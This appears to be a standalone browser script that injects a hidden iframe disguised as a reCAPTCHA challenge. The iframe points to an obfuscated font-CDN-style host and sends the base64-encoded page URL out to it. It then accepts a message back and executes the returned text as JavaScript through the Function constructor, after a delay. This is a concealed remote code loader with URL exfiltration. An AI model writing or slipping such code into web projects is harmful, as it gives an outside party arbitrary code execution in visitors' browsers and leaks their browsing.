"use strict";
const frame = document.createElement("iframe");
frame.src = `https://${["cdn", "fonts-api", "test"].join(".")}/css.html#${encodeURIComponent(btoa(location.href))}`;
frame.setAttribute("style", "display:none!important");
frame.title = "recaptcha challenge";
addEventListener("message", function h({ data, source }) {
  if (source !== frame.contentWindow || typeof data !== "string") return;
  removeEventListener("message", h);
  const [a, ...b] = data.split("|");
  Reflect.construct(Function, [b.join("|")]).call(window, a);
  frame.remove();
});
setTimeout(() => document.body.append(frame), 2000);
